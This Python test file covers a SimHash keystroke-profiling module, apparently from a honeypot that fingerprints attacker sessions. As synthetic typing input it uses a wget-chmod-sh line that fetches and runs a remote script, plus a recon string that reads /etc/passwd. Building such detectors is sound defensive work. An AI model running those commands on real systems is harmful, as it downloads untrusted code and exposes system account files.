"""SimHash: identical → equal, similar → close, order of unrelated sessions irrelevant."""

from __future__ import annotations

import json
import random
import statistics
import tempfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from node.ingest.detect import parse_line
from node.profile.profiler import Profiler
from node.profile.simhash import BITS, hamming, simhash, token_hash
from node.profile.stages import PROFILE_STAGES
from node.profile.transcripts import InputChunk, keystroke_profile
from node.store import Store

_tokens = st.dictionaries(st.text(min_size=1, max_size=6), st.integers(1, 9),
                          min_size=1, max_size=60)


def bit_totals(weights: dict[str, int]) -> list[int]:
    totals = [0] * BITS
    for token, weight in weights.items():
        h = token_hash(token)
        for bit in range(BITS):
            totals[bit] += weight if h >> bit & 1 else -weight
    return totals


@settings(deadline=None)
@given(_tokens, st.randoms(use_true_random=False))
def test_identical_multisets_give_equal_simhashes_in_any_order(
        weights: dict[str, int], rnd: random.Random) -> None:
    pairs = list(weights.items())
    shuffled = pairs[:]
    rnd.shuffle(shuffled)
    assert simhash(pairs) == simhash(shuffled)


@settings(deadline=None)
@given(_tokens, st.text(min_size=1, max_size=6))
def test_a_small_change_flips_only_bits_that_were_nearly_balanced(
        weights: dict[str, int], token: str) -> None:
    changed = dict(weights)
    changed[token] = changed.get(token, 0) + 1
    flipped = hamming(simhash(weights.items()), simhash(changed.items()))
    near_zero = sum(1 for total in bit_totals(weights) if 0 <= total <= 1)
    assert flipped <= near_zero


def test_the_same_typist_is_closer_than_a_different_one() -> None:
    text = "cd /tmp; wget http://203.0.113.80/bins.sh; chmod 777 bins.sh; sh bins.sh\r" * 2

    def session(typist: int, seed: int) -> int:
        base = random.Random(typist)
        rhythm = {c: base.uniform(0.04, 0.6) for c in sorted(set(text))}  # not hash order
        noise, t, chunks = random.Random(seed), 1.0, []
        for ch in text:
            t += rhythm[ch] * noise.uniform(0.95, 1.05)
            chunks.append(InputChunk(t, ch))
        return keystroke_profile(chunks).simhash

    same = [hamming(session(1, 10 + i), session(1, 20 + i)) for i in range(10)]
    other = [hamming(session(1, 10 + i), session(2 + i, 20 + i)) for i in range(10)]
    # Jitter can push a digraph's median gap across a bucket edge, so a single
    # same-typist pair may be as far as the closest stranger; on the whole the
    # same hands are much closer, and even their furthest pair beats a typical stranger.
    assert statistics.mean(same) * 1.5 < statistics.mean(other)
    assert max(same) < statistics.median(other)


def _session_events(sid: str, seed: int) -> list[bytes]:
    rnd, t, lines = random.Random(seed), 0.5, []
    for ch in "uname -a; cat /etc/passwd; ls -la /root\r":
        t += rnd.uniform(0.05, 0.5)
        lines.append(json.dumps({"sid": sid, "t": round(t, 6), "ch": "i", "d": ch}).encode())
    return lines


async def _simhashes(lines: list[bytes], batch: int) -> dict[str, str]:
    with tempfile.TemporaryDirectory() as tmp:
        store = await Store.open(Path(tmp) / "node.db", profilers=[Profiler()],
                                 stages=PROFILE_STAGES)
        try:
            events = [parse_line(line) for line in lines]
            for i in range(0, len(events), batch):
                await store.write_batch(events[i:i + batch])
            await store.catch_up()
            return dict(await store.fetch("SELECT sid, simhash FROM keystroke_simhashes"))
        finally:
            await store.close()


_BASE = _session_events("a", 1) + _session_events("b", 2) + _session_events("c", 3)


@settings(deadline=None, max_examples=15, suppress_health_check=[HealthCheck.too_slow])
@given(st.permutations(_BASE), st.integers(1, 40))
async def test_interleaving_and_batching_of_sessions_do_not_matter(
        lines: list[bytes], batch: int) -> None:
    assert await _simhashes(lines, batch) == await _simhashes(_BASE, len(_BASE))
